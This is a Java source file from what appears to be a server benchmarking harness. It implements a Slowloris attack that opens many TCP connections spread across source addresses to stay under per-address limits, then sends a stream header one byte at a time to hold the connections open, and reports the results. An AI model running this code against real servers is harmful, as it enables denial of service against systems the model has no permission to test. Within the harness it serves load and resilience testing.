package org.perch.bench.load;

import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelFuture;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ScheduledFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.LongAdder;

/**
 * Slowloris: many plain TCP connections, spread over the attackers' addresses (so within the per-address limit),
 * each sending its stream header one byte every {@code --slowloris-interval} seconds (the first byte at a random
 * moment within the first interval, so that they do not all write at once), then a space at that pace forever:
 * never finishing the negotiation, never quite idle.
 */
final class SlowlorisAttack implements Attack {

    private final AttackContext context;
    private final List<RawConnection> connections = new ArrayList<>();
    private final List<ScheduledFuture<?>> trickles = new CopyOnWriteArrayList<>();
    private final LongAdder bytesSent = new LongAdder();
    private final byte[] header;
    private long startedNanos;
    private int connected;

    SlowlorisAttack(AttackContext context) {
        this.context = context;
        this.header = ClientStanzas.streamHeader(context.target().domain()).getBytes(StandardCharsets.UTF_8);
    }

    @Override
    public AttackKind kind() {
        return AttackKind.SLOWLORIS;
    }

    @Override
    public void start() throws InterruptedException {
        long intervalMillis = context.options().slowlorisIntervalSeconds() * 1_000L;
        SplittableRandom random = new SplittableRandom(9);
        List<ChannelFuture> connects = new ArrayList<>();
        startedNanos = System.nanoTime();
        for (int i = 0; i < context.size(kind()); i++) {
            long firstDelay = random.nextLong(intervalMillis);
            RawConnection connection = new RawConnection(c -> trickle(c.channel(), firstDelay, intervalMillis),
                    c -> { });
            connections.add(connection);
            ChannelFuture connect = context.engine().connectRaw(connection, context.sources().next());
            connect.addListener(f -> {
                if (!f.isSuccess()) {
                    connection.connectFailed(f.cause());
                }
            });
            connects.add(connect);
        }
        for (ChannelFuture connect : connects) {
            connect.await(context.timeout().toMillis());
            if (connect.isSuccess()) {
                connected++;
            }
        }
    }

    private void trickle(Channel channel, long firstDelayMillis, long intervalMillis) {
        long[] next = {0};
        trickles.add(channel.eventLoop().scheduleAtFixedRate(() -> {
            if (!channel.isActive()) {
                return;
            }
            long at = next[0]++;
            byte b = at < header.length ? header[(int) at] : (byte) ' ';
            channel.writeAndFlush(Unpooled.wrappedBuffer(new byte[] {b}));
            bytesSent.increment();
        }, firstDelayMillis, intervalMillis, TimeUnit.MILLISECONDS));
    }

    @Override
    public AttackOutcome stop() {
        double seconds = (System.nanoTime() - startedNanos) / 1e9;
        trickles.forEach(t -> t.cancel(false));
        ConnectionEnds ends = new ConnectionEnds();
        for (RawConnection connection : connections) {
            ends.add(connection.ended().getNow(ConnectionEnds.STILL_OPEN));
            connection.close("closed by the attacker");
        }
        Map<String, Double> figures = new LinkedHashMap<>();
        figures.put("connected", (double) connected);
        figures.put("header bytes sent each", bytesSent.sum() / (double) Math.max(1, connected));
        return new AttackOutcome(kind(), context.size(kind()), seconds, ends.snapshot(), figures, Map.of());
    }
}
